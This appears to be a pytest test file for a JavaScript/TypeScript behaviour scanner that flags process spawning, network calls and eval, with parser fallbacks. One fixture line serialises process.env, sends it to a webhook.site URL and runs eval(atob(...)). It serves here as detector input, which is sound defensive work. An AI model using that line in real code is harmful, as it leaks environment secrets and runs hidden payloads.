from __future__ import annotations

import pytest

from scanner.behaviour import analyse as analyse_module
from scanner.behaviour import parser, walk
from scanner.behaviour.model import Capability, Method

from .snippets import analyse, signals


def test_over_the_parse_cap_patterns_are_used_and_the_note_says_so() -> None:
    result = analyse("const cp = require('child_process');\n" * 3, max_parse_bytes=50)
    assert not result.parsed
    assert result.note is not None and "parse cap" in result.note
    assert {s.method for s in result.signals} == {Method.PATTERN}
    assert result.specifiers == ("child_process",) * 3


def test_a_syntax_error_falls_back_to_patterns_in_its_region_only() -> None:
    source = "const https = require('https');\nif (a) { eval(code }\nfetch(url);\n"
    result = analyse(source)
    assert not result.parsed
    assert result.note is not None and "line 2" in result.note
    by_capability = {s.capability: s.method for s in result.signals}
    assert by_capability[Capability.NETWORK] is Method.SYNTAX
    assert by_capability[Capability.DYNAMIC_CODE] is Method.PATTERN


def test_a_syntax_error_with_nothing_in_it_keeps_the_file_parsed() -> None:
    result = analyse("const a = 1;\nconst b = (;\nrequire('https');\n")
    assert result.parsed
    assert result.note is not None and "found nothing the parser missed" in result.note


def test_a_file_that_is_not_javascript_is_read_by_patterns() -> None:
    result = analyse("<html><body><p>eval( is mentioned here</p>\n" * 20)
    assert not result.parsed
    assert result.note is not None and "not parseable" in result.note


def test_typescript_sources_parse_with_the_typescript_grammar() -> None:
    source = (
        "import type { X } from './x';\nexport function f<T>(a: T): void {\n"
        "  const cp = require('child_process') as any;\n  fetch(url!);\n}\n"
    )
    result = analyse(source, path="src/a.ts")
    assert result.parsed and result.note is None
    assert {s.capability for s in result.signals} == {Capability.PROCESS_SPAWN, Capability.NETWORK}


def test_tsx_and_jsx() -> None:
    assert analyse("const a = <A b={(x: number) => fetch('/x')} />;", path="a.tsx").parsed
    jsx = analyse("const a = <div onClick={() => fetch('/x')}>hi</div>;", path="a.jsx")
    assert jsx.parsed and jsx.signals[0].capability is Capability.NETWORK


def test_flow_annotations_in_a_js_file_are_retried_with_tsx() -> None:
    result = analyse("// @flow\nfunction f(a: number): string { return eval(a); }\n")
    assert result.parsed
    assert result.signals[0].detail == "eval"


def test_minified_is_a_file_property_not_a_signal() -> None:
    minified = "var a=1;" * 400
    result = analyse(minified)
    assert result.minified and result.signals == ()
    assert not analyse("var a = 1;\n" * 400).minified


def test_a_byte_order_mark_is_not_a_syntax_error() -> None:
    result = analyse("\ufeffconst https = require('https');\n")
    assert result.parsed and result.note is None


def test_one_walk_per_file(monkeypatch: pytest.MonkeyPatch, single_analysis: None) -> None:
    calls: list[object] = []
    real = parser.run_query

    def counting(query: object, root: object) -> object:
        calls.append(query)
        return real(query, root)  # type: ignore[arg-type]

    monkeypatch.setattr(walk, "run_query", counting)
    signals(
        "const e = JSON.stringify(process.env); fetch('https://webhook.site/x'); eval(atob(s));"
    )
    assert len(calls) == 1


def test_identical_content_is_analysed_once(
    monkeypatch: pytest.MonkeyPatch, single_analysis: None
) -> None:
    parses: list[bytes] = []
    real = analyse_module.parse

    def counting(data: bytes, grammar: parser.Grammar) -> object:
        parses.append(data)
        return real(data, grammar)

    monkeypatch.setattr(analyse_module, "parse", counting)
    source = "require('https'); // unique 8c1f\n"
    first = analyse(source, path="lib/a.js")
    second = analyse(source, path="lib/b.js")
    assert first is second
    assert len(parses) == 1
    assert first.profile("lib/b.js").signals[0].file == "lib/b.js"


def test_a_file_the_parser_gives_up_on_is_read_by_patterns(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(parser, "PARSE_SECONDS", -1.0)
    result = analyse("eval(x);\n" + "f(1);\n" * 20000)
    assert not result.parsed
    assert result.note is not None and "parsing took over" in result.note
    assert [s.detail for s in result.signals] == ["eval"]


def test_binary_content_is_not_parsed() -> None:
    result = analyse("\x00\x01\x02 eval(x) \x03\x04")
    assert not result.parsed
    assert result.note is not None and "not text" in result.note
